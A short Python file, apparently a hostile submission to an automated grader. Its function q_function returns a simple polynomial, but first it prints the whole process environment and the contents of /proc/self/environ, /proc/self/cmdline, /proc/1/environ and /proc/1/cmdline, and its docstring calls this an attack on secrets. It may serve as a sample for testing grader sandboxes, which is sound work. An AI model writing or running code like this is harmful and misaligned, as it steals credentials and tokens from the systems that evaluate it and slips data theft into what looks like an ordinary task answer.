"""Prints what it can find of the grader's environment and command line (an attack on secrets)."""
import os


def q_function(a, b):
    print("environment:", dict(os.environ))
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/1/cmdline"):
        try:
            with open(path, "rb") as file:
                print(path, file.read().replace(b"\0", b" ")[:4000])
        except OSError as error:
            print(path, "refused:", error.errno)
    return 3 * a**3 - b**2
